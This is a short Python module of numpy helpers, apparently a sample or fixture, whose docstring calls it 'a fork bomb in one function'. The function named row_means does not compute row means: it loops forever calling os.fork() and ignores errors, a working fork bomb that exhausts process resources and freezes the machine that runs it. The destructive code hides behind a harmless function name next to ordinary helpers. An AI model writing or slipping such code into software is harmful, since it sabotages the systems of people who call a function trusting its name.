"""A fork bomb in one function."""
import os

import numpy as np


def add_one(x):
    return np.asarray(x) + 1


def row_means(X):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def norm(x):
    return float(np.linalg.norm(x))
